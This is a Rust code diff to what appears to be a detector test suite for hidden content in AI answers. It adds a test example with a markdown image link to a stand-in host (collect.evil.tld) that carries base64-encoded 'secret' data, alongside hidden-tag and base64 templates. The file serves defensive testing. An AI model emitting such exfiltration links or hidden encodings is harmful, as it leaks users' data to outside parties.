@@ -36,12 +36,15 @@ rule! {
             Example::answer("{{base64:Nothing to see here, just an ordinary sentence.}}"),
             Example::answer("sha256: {{random:hex:64}}"),
             Example::answer("The key is {{zero-width:AKIA{{random:base32:16}}}}."),
+            Example::answer("![x](https://collect.evil.tld/p?d=c2VjcmV0) {{tags:send it}} {{base64:The IBAN is not here, sorry.}}"),
         ],
         check: |case: &Case<'_>| {
             let plain: Vec<u32> =
                 case.hits().filter(|hit| matches!(hit.view().as_str(), "raw" | "normalised")).map(|hit| hit.index()).collect();
             let shown = |finding: &Finding| finding.hits.is_empty() || finding.hits.iter().any(|hit| plain.contains(hit));
-            let (shown, hidden): (Vec<_>, Vec<_>) = case.reported().into_iter().partition(shown);
+            // The hits of the channel rules are not among this rule's own, so it cannot tell where they rest.
+            let reported = case.reported().into_iter().filter(|finding| !finding.rule.starts_with("EXP7"));
+            let (shown, hidden): (Vec<_>, Vec<_>) = reported.partition(shown);
             let mut seen: Vec<Vec<Span>> = Vec::new();
             for finding in hidden {
                 // What can be read without decoding is not hidden, whatever else its letters decode to.
